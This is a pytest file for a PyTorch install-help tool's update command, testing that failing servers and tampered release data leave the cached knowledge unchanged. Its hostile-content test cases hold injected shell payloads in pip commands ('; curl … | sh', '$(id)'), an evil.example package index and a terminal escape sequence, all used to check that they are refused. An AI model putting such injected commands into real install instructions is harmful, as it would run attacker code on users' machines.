"""A failing or hostile source never damages the knowledge in use: each case asserts the one
line it gets, exit 1, and that the previous cache still loads, unchanged."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cli_support import REPO, invoke
from http_site import Behaviour, Site, redirect, stall, status, truncated, unannounced
from site_data import NEW, newer_files

from torchdoctor import knowledge
from torchdoctor.update import store

OFFLINE = ("--no-validate",)
PUBLISHED = "published_versions.json"


def _published(change: Callable[[dict[str, Any]], None]) -> dict[str, str]:
    files = newer_files()
    doc = json.loads(files[PUBLISHED])
    change(doc)
    files[PUBLISHED] = json.dumps(doc)
    return files


def _command(text: str) -> Callable[[dict[str, Any]], None]:
    """Put `text` in the new stable's Linux CUDA 12.6 pip cell."""
    def change(doc: dict[str, Any]) -> None:
        doc["versions"][NEW]["linux"]["pip"]["cuda.x"]["command"] = text
    return change


@pytest.fixture
def previous(site: Site, cache: Path) -> bytes:
    """A cache that an earlier update wrote (stable 2.99.0): its bytes."""
    result = invoke("update", "--url", site.serve(newer_files(), "/good/"), *OFFLINE)
    assert result.exit_code == 0, result.stderr
    return (cache / "knowledge.json").read_bytes()


def _assert_failed_safely(result: Any, message: str, cache: Path, before: bytes) -> None:
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr.count("\n") == 1, result.stderr
    assert result.stderr.startswith("torchdoctor: error: update failed: ")
    assert message in result.stderr
    assert result.stderr.endswith("; the previous knowledge stays in use\n")
    assert (cache / "knowledge.json").read_bytes() == before
    assert sorted(p.name for p in cache.iterdir()) == ["knowledge.json", "knowledge.lock"]
    loaded = knowledge.load()
    assert (loaded.source, loaded.stable_version) == ("cache", NEW)


HTML = b"<!DOCTYPE html><html><body><h1>502 Bad Gateway</h1></body></html>"

SERVER_CASES: dict[str, tuple[Behaviour | bytes | None, tuple[str, ...], str]] = {
    "404": (None, (), "published_versions.json: HTTP 404 Not Found"),
    "500": (status(500, b"oops"), (), "published_versions.json: HTTP 500"),
    "stall": (stall, ("--timeout", "1"), "timed out (the update's limit is 1 s)"),
    "truncated": (truncated(b'{"latest_stable": "2.1', 5000), (),
                  "truncated response (22 of 5000 bytes)"),
    "oversized": (b"{" + b" " * 5000 + b"}", ("--max-bytes", "1000"),
                  "the response is 5002 bytes, more than the limit of 1000"),
    "oversized-unannounced": (unannounced(b"{" + b" " * 200_000 + b"}"), ("--max-bytes", "100000"),
                              "the response is larger than the limit of 100000 bytes"),
    "html": (HTML, (), "published_versions.json is not JSON (an HTML page?)"),
    "redirect-to-http": (redirect("http://mirror.invalid/published_versions.json"), (),
                         "redirects to http://mirror.invalid/published_versions.json: refused "
                         "(http://mirror.invalid/published_versions.json is plain http"),
    "not-utf8": (b"\xff\xfe{\x00}", (), "the response is not UTF-8 text"),
    "wrong-schema": (b'{"latest_stable": 5, "versions": {}}', (),
                     "published_versions.json: latest_stable '5' is not one of its versions"),
}


@pytest.mark.parametrize("case", sorted(SERVER_CASES))
def test_a_broken_server_leaves_the_previous_cache(site: Site, cache: Path, previous: bytes,
                                                    case: str) -> None:
    answer, args, message = SERVER_CASES[case]
    base = site.serve(newer_files(), "/bad/")
    if answer is None:
        del site.routes[f"/bad/{PUBLISHED}"]
    else:
        site.routes[f"/bad/{PUBLISHED}"] = answer
    result = invoke("update", "--url", base, *OFFLINE, *args)
    _assert_failed_safely(result, message, cache, previous)


CELL = f"the fetched knowledge is refused: {PUBLISHED} {NEW} linux pip cuda.x: "
STORED = f"the fetched knowledge is refused: {NEW} selector pip linux cu126: "
CONTENT_CASES = {
    "shell-metacharacters": (
        _command("pip3 install torch torchvision; curl -s https://download.pytorch.org/x | sh"),
        CELL, "contains shell metacharacters (';' '|')"),
    "command-substitution": (
        _command("pip3 install torch $(id) --index-url https://download.pytorch.org/whl/cu126"),
        CELL, "contains shell metacharacters ('$')"),
    "glob": (
        _command("pip3 install torch* --index-url https://download.pytorch.org/whl/cu126"),
        STORED, "contains shell metacharacters ('*')"),
    "foreign-index": (
        _command("pip3 install torch torchvision --index-url https://evil.example/whl/cu126"),
        CELL, "https://evil.example/whl/cu126 is outside pytorch.org's hosts"),
    "plain-http-index": (
        _command("pip3 install torch torchvision --index-url http://download.pytorch.org/whl/cu126"),
        CELL, "http://download.pytorch.org/whl/cu126 is not an https URL"),
    "terminal-escape": (
        lambda doc: doc["versions"][NEW]["linux"]["pip"]["cuda.x"].update(
            note="\x1b]0;owned\x07 read this"),
        CELL, "'\\x1b]0;owned\\x07 read this' contains control characters"),
}


@pytest.mark.parametrize("case", sorted(CONTENT_CASES))
def test_hostile_commands_are_refused(site: Site, cache: Path, previous: bytes,
                                      case: str) -> None:
    change, where, fault = CONTENT_CASES[case]
    base = site.serve(_published(change), "/bad/")
    result = invoke("update", "--url", base, *OFFLINE)
    _assert_failed_safely(result, where, cache, previous)
    assert fault in result.stderr


def test_an_update_waits_for_another_one_holding_the_lock(site: Site, cache: Path,
                                                         previous: bytes) -> None:
    base = site.serve(newer_files(), "/bad/")
    with store.locked(str(cache), wait=1):
        result = invoke("update", "--url", base, *OFFLINE, "--timeout", "1")
    _assert_failed_safely(result, "another torchdoctor update holds", cache, previous)


def test_two_updates_at_once_leave_one_valid_cache(site: Site, cache: Path) -> None:
    """Two processes fetch at the same time (every answer is delayed so that they overlap) and
    write in turn; the cache is whole afterwards and no temporary file is left."""
    base = site.serve(newer_files())
    site.delay = 0.2
    env = {**os.environ, "TORCHDOCTOR_CACHE_DIR": str(cache)}
    command = [sys.executable, "-m", "torchdoctor", "update", "--url", base, *OFFLINE]
    runs = [subprocess.Popen(command, env=env, cwd=REPO, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True) for _ in range(2)]
    outputs = [run.communicate(timeout=120) for run in runs]
    assert [run.returncode for run in runs] == [0, 0], outputs
    firsts = sorted(out.splitlines()[0].split(" from ")[0] for out, _ in outputs)
    date = os.environ["TORCHDOCTOR_TODAY"]  # a fetched source's date (tests/conftest.py)
    assert firsts == [f"Nothing new at {base}: the cache knowledge of {date}, stable {NEW} is "
                      "current.", "Updated the release knowledge"]
    assert sorted(p.name for p in cache.iterdir()) == ["knowledge.json", "knowledge.lock"]
    assert knowledge.load().stable_version == NEW


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0,
                    reason="root writes into a read-only folder: the case cannot be made")
@pytest.mark.skipif(sys.platform == "win32", reason="chmod does not make a folder read-only")
def test_a_read_only_cache_leaves_the_previous_one(site: Site, cache: Path,
                                                   previous: bytes) -> None:
    files = newer_files()
    files[PUBLISHED] = files[PUBLISHED].replace("torchvision --index-url",
                                                "torchvision  --index-url")
    base = site.serve(files, "/bad/")
    cache.chmod(0o555)
    try:
        result = invoke("update", "--url", base, *OFFLINE)
    finally:
        cache.chmod(0o755)
    _assert_failed_safely(result, f"cannot write the knowledge cache in {cache}: Permission "
                          "denied", cache, previous)
